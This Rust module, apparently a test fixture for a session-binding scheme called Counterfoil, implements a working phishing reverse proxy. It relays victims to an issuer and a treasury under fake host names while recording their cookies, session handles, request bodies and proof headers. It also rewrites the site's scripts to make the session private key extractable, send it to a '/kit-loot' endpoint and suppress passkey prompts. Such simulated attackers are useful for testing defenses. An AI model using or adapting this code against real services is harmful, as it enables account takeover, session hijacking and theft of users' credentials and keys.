//! A phishing kit: a reverse proxy under another name that relays everything, as the known ones do, and keeps what it sees.

use crate::wire;
use bytes::Bytes;
use http::{HeaderMap, HeaderName, HeaderValue, Request, Response, StatusCode, Uri, header};
use http_body_util::{BodyExt as _, Full};
use hyper::body::Incoming;
use hyper_util::rt::TokioIo;
use serde_json::Value;
use std::convert::Infallible;
use std::sync::{Arc, Mutex};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinHandle;

/// Where the kit's own script sends the key that it had the page make.
const LOOT: &str = "/kit-loot";

/// How well the kit knows the product.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Skill {
    /// It swaps host names in headers and bodies.
    Names,
    /// It also has the pages prove requests for the real address, with a key that it gets a copy of.
    Product,
    /// It also keeps the pages from asking for passkeys, which would give it away.
    Silence,
}

/// What the kit has seen.
#[derive(Clone, Debug, Default)]
pub struct Loot {
    /// Cookies that the issuer set, newest last.
    pub issuer_cookies: Vec<(String, String)>,
    /// Cookies that the treasury set, newest last.
    pub treasury_cookies: Vec<(String, String)>,
    /// The handle of the victim's session, as last given.
    pub sid: Option<String>,
    /// The private key of the victim's session, as a JWK.
    pub key: Option<Value>,
    /// Bodies that the victim sent, with their paths.
    pub sent: Vec<(String, String)>,
    /// The `Counterfoil-Proof` of each.
    pub proofs: Vec<(String, String)>,
}

impl Loot {
    /// The newest cookie, as (name, value).
    pub fn newest(cookies: &[(String, String)]) -> (String, String) {
        cookies.last().cloned().expect("the kit has seen a cookie")
    }
}

/// A running kit.
pub struct Kit {
    /// What the victim opens in place of the issuer.
    pub issuer: String,
    /// What the victim opens in place of the treasury.
    pub treasury: String,
    kept: Arc<Mutex<Loot>>,
    task: JoinHandle<()>,
}

impl Drop for Kit {
    fn drop(&mut self) {
        self.task.abort();
    }
}

struct Mask {
    real: [String; 2],
    worn: [String; 2],
    skill: Skill,
    kept: Arc<Mutex<Loot>>,
}

impl Kit {
    /// Starts one between victims and these origins, under these host names.
    pub async fn start(issuer: &str, treasury: &str, names: [&str; 2], skill: Skill) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let kept = Arc::new(Mutex::new(Loot::default()));
        let mask = Arc::new(Mask {
            real: [issuer, treasury].map(|origin| wire::address(origin).1.to_owned()),
            worn: names.map(|name| format!("{name}:{port}")),
            skill,
            kept: Arc::clone(&kept),
        });
        let [issuer, treasury] = [0, 1].map(|which| format!("http://{}", mask.worn[which]));
        let task = tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let mask = Arc::clone(&mask);
                tokio::spawn(async move {
                    let service = hyper::service::service_fn(move |request| {
                        let mask = Arc::clone(&mask);
                        async move { Ok::<_, Infallible>(mask.relay(request).await) }
                    });
                    // A victim who leaves in the middle of a reply is no fault.
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(TokioIo::new(stream), service)
                        .await;
                });
            }
        });
        Self { issuer, treasury, kept, task }
    }

    /// What it has seen so far.
    pub fn loot(&self) -> Loot {
        self.kept.lock().unwrap().clone()
    }
}

impl Mask {
    async fn relay(&self, request: Request<Incoming>) -> Response<Full<Bytes>> {
        match self.try_relay(request).await {
            Ok(response) => response,
            Err(error) => {
                let mut response = Response::new(Full::from(error));
                *response.status_mut() = StatusCode::BAD_GATEWAY;
                response
            }
        }
    }

    async fn try_relay(&self, request: Request<Incoming>) -> Result<Response<Full<Bytes>>, String> {
        let wrong = |error: &dyn std::fmt::Display| error.to_string();
        let host = request.headers().get(header::HOST).and_then(|host| host.to_str().ok()).unwrap_or_default();
        let which = usize::from(host == self.worn[1]);
        let (parts, body) = request.into_parts();
        let body = body.collect().await.map_err(|error| wrong(&error))?.to_bytes();
        if parts.uri.path() == LOOT {
            self.kept.lock().unwrap().key = serde_json::from_slice(&body).ok();
            return Ok(Response::new(Full::default()));
        }
        let sent = String::from_utf8_lossy(&body).into_owned();
        {
            let mut kept = self.kept.lock().unwrap();
            kept.sent.push((parts.uri.path().to_owned(), sent));
            if let Some(proof) = parts.headers.get("counterfoil-proof").and_then(|proof| proof.to_str().ok()) {
                kept.proofs.push((parts.uri.path().to_owned(), proof.to_owned()));
            }
        }
        let path = parts.uri.path_and_query().map_or("/", |path| path.as_str());
        let uri: Uri = self.unmasked(path).parse().map_err(|error| wrong(&error))?;
        let mut upstream = Request::builder().method(parts.method).uri(uri);
        for (name, value) in &parts.headers {
            if name != header::ACCEPT_ENCODING && name != header::HOST && name != header::IF_NONE_MATCH {
                let value = self.unmasked(value.to_str().unwrap_or_default());
                upstream = upstream.header(name, value);
            }
        }
        let upstream = upstream.header(header::HOST, &self.real[which]);
        let upstream = upstream.body(Full::new(body)).map_err(|error| wrong(&error))?;

        let stream =
            TcpStream::connect(wire::address(&self.real_origin(which)).0).await.map_err(|error| wrong(&error))?;
        let handshake = hyper::client::conn::http1::handshake(TokioIo::new(stream)).await;
        let (mut sender, connection) = handshake.map_err(|error| wrong(&error))?;
        tokio::spawn(connection);
        let reply = sender.send_request(upstream).await.map_err(|error| wrong(&error))?;
        let (head, body) = reply.into_parts();
        let body = body.collect().await.map_err(|error| wrong(&error))?.to_bytes();
        self.keep(which, &head.headers);
        let body = match std::str::from_utf8(&body) {
            Ok(text) => Bytes::from(self.improved(&self.masked(text))),
            Err(_) => body,
        };
        let mut response = Response::new(Full::new(body));
        *response.status_mut() = head.status;
        for (name, value) in &head.headers {
            if name != header::CONTENT_LENGTH && name != header::TRANSFER_ENCODING && name != header::ETAG {
                let value = self.masked(value.to_str().unwrap_or_default());
                response
                    .headers_mut()
                    .append(HeaderName::clone(name), HeaderValue::from_str(&value).map_err(|error| wrong(&error))?);
            }
        }
        Ok(response)
    }

    fn real_origin(&self, which: usize) -> String {
        format!("http://{}", self.real[which])
    }

    fn keep(&self, which: usize, headers: &HeaderMap) {
        let mut kept = self.kept.lock().unwrap();
        for cookie in headers.get_all(header::SET_COOKIE).iter().filter_map(|value| value.to_str().ok()) {
            if let Some((name, value)) = cookie.split(';').next().and_then(|pair| pair.split_once('=')) {
                let jar = if which == 0 { &mut kept.issuer_cookies } else { &mut kept.treasury_cookies };
                jar.push((name.to_owned(), value.to_owned()));
            }
        }
        if let Some(sid) = headers.get("counterfoil-session").and_then(|sid| sid.to_str().ok()) {
            kept.sid = Some(sid.to_owned());
        }
    }

    fn swapped(text: &str, from: &[String; 2], to: &[String; 2]) -> String {
        // The longer name first: the issuer's may be the end of the treasury's.
        [1, 0].into_iter().fold(text.to_owned(), |text, which| {
            let encoded = |host: &str| host.replace(':', "%3A");
            text.replace(&from[which], &to[which]).replace(&encoded(&from[which]), &encoded(&to[which]))
        })
    }

    /// As the victim should see it.
    fn masked(&self, text: &str) -> String {
        Self::swapped(text, &self.real, &self.worn)
    }

    /// As the real servers should see it.
    fn unmasked(&self, text: &str) -> String {
        Self::swapped(text, &self.worn, &self.real)
    }

    /// The product's own scripts, improved by somebody who has read them.
    fn improved(&self, text: &str) -> String {
        if self.skill == Skill::Names {
            return text.to_owned();
        }
        let real = format!("new URL(path, \"{}\")", self.real_origin(0));
        let loot = format!(
            "await fetch(\"{LOOT}\", {{ method: \"POST\", body: JSON.stringify(await crypto.subtle.exportKey(\"jwk\", pair.privateKey)) }});\n  const publicJwk ="
        );
        text.replace("new URL(path, location.origin)", &real)
            .replace("namedCurve: \"P-256\" }, false, [\"sign\"]", "namedCurve: \"P-256\" }, true, [\"sign\"]")
            .replace("const publicJwk =", &loot)
            .replace(
                "typeof PublicKeyCredential === \"function\"",
                if self.skill == Skill::Silence { "false" } else { "true" },
            )
    }
}
